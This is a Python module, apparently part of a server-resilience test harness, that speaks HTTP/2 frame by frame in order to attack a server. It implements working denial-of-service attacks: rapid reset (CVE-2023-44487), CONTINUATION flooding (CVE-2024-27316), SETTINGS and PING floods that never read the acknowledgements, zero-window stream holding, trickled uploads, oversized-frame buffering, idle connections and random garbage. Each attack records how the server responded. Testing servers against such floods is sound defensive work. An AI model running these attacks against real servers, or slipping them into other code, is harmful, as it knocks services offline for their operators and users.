"""HTTP/2 hostile clients, frame by frame (hyperframe to build and parse frames, hpack for header blocks).

Why not h2's client state machine: it enforces the protocol on *us* (no
DATA past a window, no CONTINUATION without end, no reset storm), and these
attacks are exactly those violations, or legal frames in illegal amounts.
:class:`RawH2` is the least a client needs: the preface, SETTINGS (acked
unless we are flooding), header blocks in and out, and per stream what
came back (status, end, RST_STREAM code), plus the GOAWAY code.

Each attack follows ``experiments.hostile.clients``'s shape and reports a
:class:`~experiments.hostile.clients.Seen`; its unit is the stream where streams
are the point (trickled uploads, zero windows) and the connection where the
connection is (rapid reset, floods, idle, garbage).
"""

from __future__ import annotations

import os
import select
import time
from collections import Counter

import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

from .clients import Seen, by_status, open_socket

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def code_name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


class RawH2:
    """One prior-knowledge HTTP/2 connection, spoken frame by frame. ``ok`` is False if it never opened."""

    def __init__(self, host: str, port: int, seen: Seen, settings: dict[int, int] | None = None,
                 rcvbuf: int | None = None, ack: bool = True, consume: bool = True, keep_bodies: bool = False) -> None:
        self.seen, self.ack, self.consume = seen, ack, consume
        self.bodies: dict[int, bytearray] | None = {} if keep_bodies else None
        self.sock = open_socket(host, port, seen, rcvbuf=rcvbuf)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.inbuf = bytearray()
        self.status: dict[int, int] = {}
        self.ended: set[int] = set()
        self.resets: dict[int, int] = {}
        self.goaway: int | None = None
        self.goaway_last: int | None = None  # the GOAWAY's last stream id: later streams were never processed
        self.closed: str | None = None  # "closed" or "reset" once the server is gone
        self.next_id = 1
        self._block: tuple[int, bytearray, bool] | None = None  # a header block awaiting CONTINUATION
        if self.sock is not None:
            self.send(PREFACE, SettingsFrame(0, settings or {}))

    @property
    def ok(self) -> bool:
        return self.sock is not None and self.closed is None

    def send(self, *frames: Frame | bytes, timeout: float | None = 5.0) -> bool:
        """Serialize and send; False (and the connection marked) if the server is gone or stopped reading."""
        if not self.ok:
            return False
        data = b"".join(f if isinstance(f, (bytes, bytearray)) else f.serialize() for f in frames)
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
        except TimeoutError:
            self.seen.note("send_stalled")  # the server stopped reading us: its buffers are full
            return False
        except (BrokenPipeError, ConnectionResetError):
            self.closed = "reset"
            return False
        self.seen.bytes_sent += len(data)
        return True

    def request_frame(self, path: str, method: str = "GET", end_stream: bool = True,
                      end_headers: bool = True) -> HeadersFrame:
        """HEADERS for a new stream (``next_id`` advances)."""
        fields = [(":method", method), (":path", path), (":scheme", "http"), (":authority", "hostile")]
        flags = (["END_HEADERS"] if end_headers else []) + (["END_STREAM"] if end_stream else [])
        frame = HeadersFrame(self.next_id, self.encoder.encode(fields), flags=flags)
        self.next_id += 2
        return frame

    def poll(self, timeout: float) -> None:
        """Read and handle whatever arrives within ``timeout`` seconds (0: only what is there)."""
        if not self.ok:
            return
        if not select.select([self.sock], [], [], max(0.0, timeout))[0]:
            return
        self.sock.settimeout(0)
        try:
            data = self.sock.recv(1 << 20)
        except BlockingIOError:
            return
        except ConnectionResetError:
            self.closed = "reset"
            return
        if not data:
            self.closed = "closed"
            return
        self.seen.bytes_received += len(data)
        self.inbuf += data
        self._parse()

    def _parse(self) -> None:
        while len(self.inbuf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(bytes(self.inbuf[:9])))
            if len(self.inbuf) < 9 + length:
                return
            frame.parse_body(memoryview(bytes(self.inbuf[9:9 + length])))
            del self.inbuf[:9 + length]
            self._on_frame(frame)

    def _on_frame(self, frame: Frame) -> None:
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags and self.ack:
            self.send(SettingsFrame(0, flags=["ACK"]))
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags and self.ack:
            self.send(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]))
        elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
            self._header_block(frame)
        elif isinstance(frame, DataFrame):
            if self.bodies is not None:
                self.bodies.setdefault(frame.stream_id, bytearray()).extend(frame.data)
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)
            if self.consume and frame.flow_controlled_length:
                n = frame.flow_controlled_length
                self.send(WindowUpdateFrame(0, window_increment=n), WindowUpdateFrame(frame.stream_id, window_increment=n))
        elif isinstance(frame, RstStreamFrame):
            self.resets[frame.stream_id] = frame.error_code
        elif isinstance(frame, GoAwayFrame):
            self.goaway, self.goaway_last = frame.error_code, frame.last_stream_id
            self.seen.details.setdefault("goaway_codes", Counter())[code_name(frame.error_code)] += 1

    def _header_block(self, frame: HeadersFrame | ContinuationFrame) -> None:
        if isinstance(frame, HeadersFrame):
            self._block = (frame.stream_id, bytearray(frame.data), "END_STREAM" in frame.flags)
        elif self._block is not None:
            self._block[1].extend(frame.data)
        if "END_HEADERS" not in frame.flags or self._block is None:
            return
        stream_id, block, end = self._block
        self._block = None
        fields = dict(self.decoder.decode(bytes(block), raw=True))  # always decoded: keeps the table in step
        if b":status" in fields and stream_id not in self.status:
            self.status[stream_id] = int(fields[b":status"])
        if end:
            self.ended.add(stream_id)

    def outcome(self, stream_id: int) -> str:
        """How a stream of ours ended (or did not)."""
        status = self.status.get(stream_id)
        if status is not None and (stream_id in self.ended or status >= 400):
            return by_status(status)
        if stream_id in self.resets:
            return "reset"
        if self.goaway is not None:
            return "goaway"
        if self.closed:
            return "reset" if self.closed == "reset" else "closed-by-server"
        return "still-open"

    def settle_streams(self, stream_ids: list[int]) -> None:
        for stream_id in stream_ids:
            status = self.status.get(stream_id)
            self.seen.settle(self.outcome(stream_id), status)
            if stream_id in self.resets:
                self.seen.details.setdefault("rst_codes", Counter())[code_name(self.resets[stream_id])] += 1

    def settle_connection(self) -> None:
        """The connection as one unit: GOAWAY, closed, reset or still open."""
        if self.sock is None:
            return  # open_socket settled it already
        self.poll(0)
        outcome = ("goaway" if self.goaway is not None else "reset" if self.closed == "reset"
                   else "closed-by-server" if self.closed else "still-open")
        self.seen.settle(outcome)
        self.sock.close()

    def settled(self, stream_ids: list[int]) -> bool:
        return all(self.outcome(s) != "still-open" for s in stream_ids)


def _poll_all(conns: list[RawH2], until: float) -> None:
    """Handle every connection's bytes as they arrive until ``until`` (monotonic).

    Returning only at ``until`` keeps an attack's pace: the server's answers
    (a PING ACK, a WINDOW_UPDATE per trickled byte) must not speed it up.
    """
    while (left := until - time.monotonic()) > 0:
        live = [c for c in conns if c.ok]
        if not live:
            time.sleep(left)
            return
        ready = select.select([c.sock for c in live], [], [], left)[0]
        for conn in live:
            if conn.sock in ready:
                conn.poll(0)


def _finish(seen: Seen) -> Seen:
    """Duration, and details made JSON-sized: counters as dicts, per-connection lists as min/median/max."""
    seen.duration = time.monotonic() - seen._started
    for key, value in seen.details.items():
        if isinstance(value, Counter):
            seen.details[key] = dict(value)
        elif isinstance(value, list) and value:
            ordered = sorted(value)
            seen.details[key] = {"n": len(ordered), "min": ordered[0], "median": ordered[len(ordered) // 2],
                                 "max": ordered[-1]}
    return seen


# Streams held open -----------------------------------------------------------------------

def trickle_upload(host: str, port: int, duration: float, connections: int = 2, streams: int = 10,
                   interval: float = 1.0) -> Seen:
    """POST streams with no content-length, one DATA byte each every ``interval`` seconds."""
    seen = Seen("h2-trickle-upload", "h2")
    deadline = time.monotonic() + duration
    held = []
    for _ in range(connections):
        conn = RawH2(host, port, seen)
        frames = [conn.request_frame("/upload", "POST", end_stream=False) for _ in range(streams)]
        conn.send(*frames)
        held.append((conn, [f.stream_id for f in frames]))
    while time.monotonic() < deadline and not all(c.settled(ids) for c, ids in held):
        for conn, ids in held:
            conn.send(*[DataFrame(s, b"x") for s in ids if conn.outcome(s) == "still-open"], timeout=1.0)
        _poll_all([c for c, _ in held], min(deadline, time.monotonic() + interval))
    _let_go(held)
    return _finish(seen)


def _let_go(held: list) -> None:
    """Read what is left, record each held stream's outcome, and close."""
    for conn, ids in held:
        conn.poll(0)
        conn.settle_streams(ids)
        if conn.sock is not None:
            conn.sock.close()


def zero_window(host: str, port: int, duration: float, connections: int = 2, streams: int = 10,
                path: str = "/big") -> Seen:
    """SETTINGS_INITIAL_WINDOW_SIZE=0, large responses asked for, a PING every second to look alive."""
    seen = Seen("h2-zero-window", "h2")
    deadline = time.monotonic() + duration
    held = []
    for _ in range(connections):
        conn = RawH2(host, port, seen, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        frames = [conn.request_frame(path) for _ in range(streams)]
        conn.send(*frames)
        held.append((conn, [f.stream_id for f in frames]))
    while time.monotonic() < deadline and not all(c.settled(ids) for c, ids in held):
        for conn, _ in held:
            conn.send(PingFrame(0, opaque_data=b"holding!"), timeout=1.0)
        _poll_all([c for c, _ in held], min(deadline, time.monotonic() + 1.0))
    _let_go(held)
    return _finish(seen)


# Floods ------------------------------------------------------------------------------------

def rapid_reset(host: str, port: int, duration: float, batch: int = 50, max_rate: float = 5000.0,
                path: str = "/sleep?ms=100") -> Seen:
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) at once, stream after stream; reconnect when thrown out.

    Each reset frees the client's concurrency slot at once while the server
    may already have started the handler. ``max_rate`` (streams per second)
    only keeps this client from starving the normal visitors' CPU.
    """
    seen = Seen("h2-rapid-reset", "h2")
    deadline = time.monotonic() + duration
    cancel = ErrorCodes.CANCEL
    while time.monotonic() < deadline:
        conn = RawH2(host, port, seen)
        opened, began = 0, time.monotonic()
        while conn.ok and time.monotonic() < deadline and conn.goaway is None:
            frames = []
            for _ in range(batch):
                frame = conn.request_frame(path)
                frames += [frame, RstStreamFrame(frame.stream_id, error_code=cancel)]
            if conn.send(*frames, timeout=2.0):
                opened += batch
            conn.poll(0)
            time.sleep(max(0.0, began + opened / max_rate - time.monotonic()))
        seen.note("streams_opened", opened)
        if conn.goaway is not None:
            seen.details.setdefault("streams_before_goaway", []).append(opened)
        seen.note("answers_despite_reset", len(conn.status))
        conn.settle_connection()
        if conn.sock is None:
            time.sleep(0.5)  # refused: do not spin
    return _finish(seen)


def continuation_flood(host: str, port: int, duration: float, connections: int = 20, frame_size: int = 16384,
                       max_bytes: int = 32 * 1024 * 1024) -> Seen:
    """HEADERS without END_HEADERS, then CONTINUATION frames of valid fields, forever (CVE-2024-27316 and kin).

    ``bytes_before_cutoff`` counts what the kernel took from us before the
    server's GOAWAY or close was seen: loopback socket buffers included, so
    an upper bound on what the server read.
    """
    seen = Seen("h2-continuation-flood", "h2")
    deadline = time.monotonic() + duration
    field = b"\x00\x07x-flood\x64" + b"a" * 100  # literal, not indexed: name 7 bytes, value 100 bytes
    block = (field * (frame_size // len(field) + 1))[:frame_size]
    for _ in range(connections):
        if time.monotonic() >= deadline:
            break
        conn = RawH2(host, port, seen)
        head = conn.request_frame("/", end_headers=False)
        conn.send(head)
        sent = 0
        while conn.ok and conn.goaway is None and sent < max_bytes and time.monotonic() < deadline:
            if not conn.send(*[ContinuationFrame(head.stream_id, block)] * 16, timeout=5.0):
                break
            sent += 16 * frame_size
            conn.poll(0)
        conn.poll(0.5)
        seen.details.setdefault("bytes_before_cutoff", []).append(sent)
        if head.stream_id in conn.status:
            seen.statuses[conn.status[head.stream_id]] += 1
        conn.settle_connection()
    return _finish(seen)


def control_flood(host: str, port: int, duration: float, kind: str = "settings", batch: int = 1000,
                  connections: int = 3) -> Seen:
    """SETTINGS (or PING) frames as fast as the server takes them, never reading its ACKs.

    A server that queues an ACK per frame in memory while its writes to us
    are blocked grows without bound; one that stops reading (or says
    ENHANCE_YOUR_CALM) does not. The connection is held until ``duration``.
    """
    seen = Seen(f"h2-{kind}-flood", "h2")
    deadline = time.monotonic() + duration
    frame = (SettingsFrame(0, {SettingsFrame.MAX_CONCURRENT_STREAMS: 100}) if kind == "settings"
             else PingFrame(0, opaque_data=b"floodin!"))
    burst = frame.serialize() * batch
    for _ in range(connections):
        conn = RawH2(host, port, seen, rcvbuf=4096, ack=False)
        frames = 0
        while conn.ok and time.monotonic() < deadline:
            if not conn.send(burst, timeout=min(5.0, max(0.1, deadline - time.monotonic()))):
                break
            frames += batch
        seen.details.setdefault("frames_sent", []).append(frames)
        if conn.ok:  # stalled: hold it, unread, as an attacker would, then look at what came back
            time.sleep(max(0.0, deadline - time.monotonic()))
        _drain(conn, 1.0)
        conn.settle_connection()
        if time.monotonic() >= deadline:
            break
    return _finish(seen)


def oversized_frame(host: str, port: int, duration: float, connections: int = 8,
                    length: int = (1 << 24) - 1) -> Seen:
    """A frame header declaring ``length`` bytes (an unknown type), then all of it but the last byte, then silence.

    h2 checks a frame's length against SETTINGS_MAX_FRAME_SIZE only once the
    whole frame has arrived, so a server built on it buffers up to 16 MiB
    per connection first. (Random garbage after the preface usually starts
    such a frame, which is why ``h2-garbage`` can go unanswered.)
    """
    seen = Seen("h2-oversized-frame", "h2")
    deadline = time.monotonic() + duration
    conns = []
    header = length.to_bytes(3, "big") + b"\xfa\x00\x00\x00\x00\x00"  # type 0xfa: no such frame
    body = b"\0" * (length - 1)
    for _ in range(connections):
        # No SETTINGS ACK (ack=False): its 9 bytes would complete the frame and end the attack.
        conn = RawH2(host, port, seen, ack=False)
        conn.send(header)
        for start in range(0, len(body), 1 << 20):
            if not conn.send(body[start:start + (1 << 20)], timeout=max(0.1, deadline - time.monotonic())):
                break
        conns.append(conn)
    while time.monotonic() < deadline and any(c.ok and c.goaway is None for c in conns):
        _poll_all(conns, min(deadline, time.monotonic() + 1.0))
    for conn in conns:
        conn.settle_connection()
    return _finish(seen)


def _drain(conn: RawH2, seconds: float) -> None:
    """Read what the server queued for us (to find its GOAWAY), for at most ``seconds``."""
    until = time.monotonic() + seconds
    while conn.ok and conn.goaway is None and time.monotonic() < until:
        conn.poll(max(0.0, until - time.monotonic()))


# Connections that do nothing useful ------------------------------------------------------------

def idle(host: str, port: int, duration: float, connections: int = 100) -> Seen:
    """Connections that send one request, read the answer, then only sit there."""
    seen = Seen("h2-idle", "h2")
    deadline = time.monotonic() + duration
    conns = []
    for _ in range(connections):
        conn = RawH2(host, port, seen)
        conn.send(conn.request_frame("/"))
        conns.append(conn)
    while time.monotonic() < deadline and any(c.ok and c.goaway is None for c in conns):
        _poll_all(conns, min(deadline, time.monotonic() + 1.0))
    seen.note("answered", sum(1 for c in conns if c.status.get(1) == 200))
    for conn in conns:
        conn.settle_connection()
    return _finish(seen)


def garbage(host: str, port: int, duration: float, connections: int = 50, size: int = 2048,
            timeout: float = 5.0) -> Seen:
    """The preface and SETTINGS, then random bytes where frames should be: GOAWAY(PROTOCOL_ERROR) expected."""
    seen = Seen("h2-garbage", "h2")
    deadline = time.monotonic() + duration
    for _ in range(connections):
        if time.monotonic() + timeout > deadline:
            break
        conn = RawH2(host, port, seen)
        conn.send(os.urandom(size))
        _drain(conn, timeout)
        conn.settle_connection()
    return _finish(seen)


__all__ = ["PREFACE", "RawH2", "continuation_flood", "control_flood", "garbage", "idle", "oversized_frame",
           "rapid_reset", "trickle_upload", "zero_window"]
